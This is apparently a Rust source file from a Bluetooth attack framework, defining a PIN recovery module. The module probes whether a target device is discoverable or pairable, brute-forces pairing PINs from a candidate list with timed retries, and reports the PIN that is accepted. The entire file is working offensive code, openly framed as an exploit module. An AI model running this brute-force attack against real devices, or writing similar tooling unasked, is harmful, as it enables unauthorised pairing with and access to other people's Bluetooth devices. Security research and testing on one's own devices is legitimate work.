//! Pairing PIN recovery.

use async_trait::async_trait;

use bluefang_common::{AttackKind, BdAddr, BlueResult};

use crate::module::{AttackContext, AttackModule};
use crate::payloads::pin_candidates;
use crate::probe;

fn pairing_accepted(output: &str) -> bool {
    let lower = output.to_lowercase();
    lower.contains("successful") || (lower.contains("paired") && !lower.contains("paired: no"))
}

#[derive(Debug, Default)]
pub struct PinRecovery {
    pin: Option<String>,
    tried: usize,
}

impl PinRecovery {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn recovered(&self) -> Option<&str> {
        self.pin.as_deref()
    }
}

#[async_trait]
impl AttackModule for PinRecovery {
    fn kind(&self) -> AttackKind {
        AttackKind::PinRecovery
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(info) = probe::device_info(ctx, target).await? else {
            return Ok(false);
        };
        let lower = info.to_lowercase();
        let open = lower.contains("discoverable") || lower.contains("pairable");
        if open {
            ctx.log.info("Target accepts pairing requests");
        }
        Ok(open)
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let candidates = pin_candidates(&ctx.config);
        let total = candidates.len();
        ctx.log.info(format!("Trying {} PIN candidates", total));

        for (i, pin) in candidates.into_iter().enumerate() {
            ctx.cancel.check()?;
            if i > 0 {
                ctx.cancel.sleep(ctx.config.delay()).await?;
            }
            self.tried = i + 1;
            ctx.log.detail(format!("Attempt {}/{}: PIN {}", i + 1, total, pin));

            let res = ctx
                .cancel
                .run(ctx.toolkit.agent.pair_with_pin(target, &pin, ctx.timeout()))
                .await;
            let Some(output) = probe::recover(ctx, "pairing attempt", res)? else {
                continue;
            };
            if pairing_accepted(&output) {
                ctx.log.success(format!("Pairing accepted with PIN {}", pin));
                self.pin = Some(pin);
                return Ok(true);
            }
        }
        ctx.log.warning(format!("No PIN accepted after {} attempts", self.tried));
        Ok(false)
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        match &self.pin {
            Some(pin) => {
                ctx.log.success(format!("PIN for {} is {} ({} attempts)", target, pin, self.tried));
                Ok(true)
            }
            None => Ok(false),
        }
    }
}
